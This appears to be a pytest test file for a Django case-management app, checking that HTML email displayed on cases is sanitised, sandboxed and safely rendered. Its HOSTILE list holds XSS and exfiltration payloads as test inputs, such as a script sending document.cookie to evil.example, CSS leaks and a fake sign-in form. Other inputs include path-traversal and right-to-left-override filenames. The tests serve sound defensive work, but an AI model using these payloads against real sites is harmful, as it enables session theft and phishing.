"""A message on its case: what a reader sees of it, and what it can never do."""

import base64
import datetime as dt
import re

import pytest
from django.test import Client

from moothall.cases.models import Case, Entry
from moothall.cases.tests.make import make_manager
from moothall.enquiries.models import Mailbox
from moothall.people.models import Person

from .make import bring_in, mail, make_mailbox, newest, with_files

pytestmark = pytest.mark.django_db
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
RELATED = "multipart/related; boundary=b"


@pytest.fixture
def box(client: Client) -> Mailbox:
    box = make_mailbox()
    client.force_login(make_manager(team=box.team))
    return box


def page_mail(page: str, *files: tuple[str, str, bytes], **headers: str) -> bytes:
    """A formatted message with pictures, each a content id, a type and its bytes."""
    parts = [f"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{page}"]
    for name, kind, content in files:
        head = f"--b\r\nContent-Type: {kind}\r\nContent-ID: <{name}>\r\n"
        head += "Content-Transfer-Encoding: base64\r\n\r\n"
        parts.append(head + base64.encodebytes(content).decode())
    shell = mail("", **{"content_type": RELATED, **headers}).decode().rstrip()
    return (shell + "\r\n\r\n" + "\r\n".join(parts) + "\r\n--b--\r\n").encode()


def shown(client: Client, case: Case) -> str:
    answer = client.get(f"/cases/{case.reference}/")
    assert answer.status_code == 200
    return answer.content.decode()


def framed(client: Client, case: Case) -> tuple[str, str]:
    """The message as the frame shows it, and the policy it is shown under."""
    entry = case.entries.exclude(html="").get()
    answer = client.get(f"/cases/{case.reference}/messages/{entry.pk}/")
    assert answer["X-Frame-Options"] == "SAMEORIGIN"
    return answer.content.decode().partition("<body")[2], answer["Content-Security-Policy"]


def test_a_picture_that_came_along_is_shown_in_its_place_and_nothing_is_fetched(
    client: Client, box: Mailbox
) -> None:
    page = '<p>The damage: <img src="cid:damage@phone" alt="a broken chair"></p>'
    bring_in(box, page_mail(page, ("damage@phone", "image/png", PIXEL)))
    body, policy = framed(client, newest())
    assert f'src="data:image/png;base64,{base64.b64encode(PIXEL).decode()}"' in body
    assert "cid:" not in body
    assert "default-src 'none'; img-src data:;" in policy
    assert " sandbox " in policy
    assert "allow-scripts" not in policy
    assert "allow-same-origin" not in policy


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("image/png", b"<html><script>alert(1)</script></html>"),
        ("text/html", b"<script>alert(1)</script>"),
    ],
)
def test_what_is_no_plain_picture_is_not_shown_as_one(
    client: Client, box: Mailbox, kind: str, content: bytes
) -> None:
    bring_in(box, page_mail('<p>See <img src="cid:x" alt="a drawing"></p>', ("x", kind, content)))
    body, _policy = framed(client, newest())
    assert "data:" not in body
    assert 'alt="a drawing"' in body


HOSTILE = [
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<style>@import url(//evil.example/a.css); p{background:url(//evil.example/leak)}</style>",
    "<p style=\"background-image:url('https://evil.example/seen')\">x</p>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><a href="x">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<div style="position:fixed;inset:0">Your session has ended</div>',
    '<video poster="https://evil.example/p"></video><object data="https://evil.example/o"></object>',
    '<img src="https://evil.example/open.gif" width=1 height=1>',
    '<img srcset="https://evil.example/a 1x">',
    "</body></html><script>alert(1)</script>",
]


@pytest.mark.parametrize("page", HOSTILE)
def test_a_hostile_page_reaches_nobody(client: Client, box: Mailbox, page: str) -> None:
    bring_in(box, mail(f"<p>Good morning</p>{page}", content_type="text/html; charset=utf-8"))
    body, _policy = framed(client, newest())
    assert "Good morning" in body
    assert not re.search(r"<(script|style|svg|link|form|iframe|meta|base|object|video)|\son\w+=", body)
    assert "url(" not in body
    assert "position" not in body
    assert "javascript:" not in body
    assert not re.search(r'(src|srcset|action|poster|data)="?https?:', body)
    assert "alert(1)" not in shown(client, newest()).replace("&lt;", "")


def test_pictures_from_elsewhere_are_not_fetched_and_that_is_said(client: Client, box: Mailbox) -> None:
    pictures = "".join(f'<img src="https://track.example/{n}.gif">' for n in range(3))
    bring_in(box, mail(f"<p>News</p>{pictures}", content_type="text/html"))
    assert "track.example" not in framed(client, newest())[0]
    assert "3 pictures from elsewhere were not fetched" in shown(client, newest())


def test_a_message_sent_along_is_opened_on_the_case_and_kept_as_a_file(client: Client, box: Mailbox) -> None:
    inner = mail(
        "The projector in room 4 is broken.", subject="Broken <b>projector</b>", from_="Yusuf <y@x.example>"
    )
    outer = with_files(("x.bin", b"1"), text="See below.").replace(
        b"--b\r\nContent-Type: application/octet-stream",
        b"--b\r\nContent-Type: message/rfc822\r\n\r\n"
        + inner
        + b"\r\n--b\r\nContent-Type: application/octet-stream",
        1,
    )
    bring_in(box, outer)
    html = shown(client, newest())
    assert "Broken &lt;b&gt;projector&lt;/b&gt;" in html
    assert "The projector in room 4 is broken." in html
    assert "Yusuf &lt;y@x.example&gt;" in html
    names = list(newest().entries.get(kind=Entry.MAIL_IN).attached.values_list("name", flat=True))
    assert len(names) == 2
    assert names[0].endswith(".eml")


def test_what_is_answered_is_folded_away(client: Client, box: Mailbox) -> None:
    quoted = "On Mon, 16 Nov 2026 at 10:00, Kwame wrote:\r\n> Do you need a hearing loop?\r\n> Kwame"
    bring_in(box, mail(f"Yes, please.\r\n\r\n{quoted}"))
    html = shown(client, newest())
    folded = html.partition("<summary>Earlier text</summary>")[2].partition("</details>")[0]
    assert "hearing loop" in folded
    assert "Yes, please." not in folded


def test_the_name_of_a_file_cannot_be_turned_round(client: Client, box: Mailbox) -> None:
    bring_in(box, with_files(("invoice\u202efdp.exe", b"MZ..."), ("../../etc/passwd", b"root")))
    names = list(newest().entries.get(kind=Entry.MAIL_IN).attached.values_list("name", flat=True))
    assert not any(sign in "".join(names) for sign in "\u202e\u2066/\\")
    assert "\u202e" not in shown(client, newest())
    attached = newest().entries.get(kind=Entry.MAIL_IN).attached.all()[0]
    answer = client.get(f"/cases/{newest().reference}/files/{attached.pk}/")
    answer.close()
    assert answer["Content-Disposition"].startswith("attachment")
    assert "\u202e" not in answer["Content-Disposition"]


@pytest.mark.parametrize(
    "name", ["Ní Ó'Brien-Łukasiewicz", "Nguyễn Thị Ánh", "王小明", "Ffïon ap-Ŵyn", "O&#39;Hara <b>"]
)
def test_a_name_is_kept_as_its_owner_writes_it(client: Client, box: Mailbox, name: str) -> None:
    coded = base64.b64encode(name.encode()).decode()
    bring_in(box, mail(from_=f"=?utf-8?b?{coded}?= <writer@borth.example>"))
    assert Person.objects.get().full_name == name
    escaped = name.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("'", "&#x27;")
    assert escaped in shown(client, newest())


def test_a_message_to_eight_thousand_is_one_case(client: Client, box: Mailbox) -> None:
    everyone = ",\r\n ".join(f"Reader {n} <reader{n}@borth.example>" for n in range(8000))
    assert bring_in(box, mail(to=everyone)) == {"new_cases": 1}
    assert Person.objects.count() == 1
    shown(client, newest())


@pytest.mark.parametrize(
    ("date", "received", "day"),
    [
        ("Thu, 01 Jan 1970 00:00:00 +0000", "", (2026, 11, 23)),
        ("Fri, 01 Jan 2099 00:00:00 +0000", "", (2026, 11, 23)),
        ("Mon, 01 Jan 1996 00:00:00 +0000", "from a by b; Fri, 20 Nov 2026 10:00:00 +0000", (2026, 11, 20)),
        ("Fri, 20 Nov 2026 23:30:00 -0500", "", (2026, 11, 21)),
        ("nonsense", "", (2026, 11, 23)),
    ],
)
def test_a_wrong_date_does_not_make_a_case_late(
    client: Client, box: Mailbox, date: str, received: str, day: tuple[int, int, int]
) -> None:
    bring_in(box, mail(date=date, received=received))
    case = newest()
    assert case.received_at.date() == dt.date(*day)
    assert not case.is_late(dt.date(2026, 11, 23))
    shown(client, case)


def test_on_the_night_the_clocks_change_messages_stay_in_their_order(client: Client, box: Mailbox) -> None:
    """01:30 comes twice on 25 October 2026; a zone that is named tells them apart."""
    at = dt.datetime(2026, 10, 26, 9, 0, tzinfo=dt.UTC)
    first = mail("before", date="Sun, 25 Oct 2026 01:30:00 +0100", message_id="<b@borth.example>")
    second = mail("after", date="Sun, 25 Oct 2026 01:30:00 +0000", in_reply_to="<b@borth.example>")
    bring_in(box, second, first, at=at)
    entries = Entry.objects.filter(kind=Entry.MAIL_IN).order_by("at")
    assert [entry.text.strip() for entry in entries] == ["before", "after"]
    assert entries[1].at - entries[0].at == dt.timedelta(hours=1)
